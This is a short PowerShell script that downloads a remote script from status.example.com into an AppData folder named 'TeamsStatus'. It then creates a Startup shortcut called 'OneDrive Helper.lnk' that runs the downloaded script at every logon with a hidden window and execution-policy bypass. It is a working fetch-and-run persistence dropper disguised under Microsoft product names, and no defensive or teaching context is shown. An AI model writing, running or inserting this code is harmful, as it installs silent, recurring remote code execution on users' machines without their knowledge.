$dir = "$env:APPDATA\TeamsStatus"
New-Item -ItemType Directory -Force $dir | Out-Null
Invoke-WebRequest https://status.example.com/agent.ps1 -OutFile "$dir\agent.ps1"
$startup = [Environment]::GetFolderPath('Startup')
$sh = New-Object -ComObject WScript.Shell
$lnk = $sh.CreateShortcut("$startup\OneDrive Helper.lnk")
$lnk.TargetPath = 'powershell.exe'
$lnk.Arguments = "-NoP -W Hidden -ExecutionPolicy Bypass -File `"$dir\agent.ps1`""
$lnk.WindowStyle = 7
$lnk.Save()
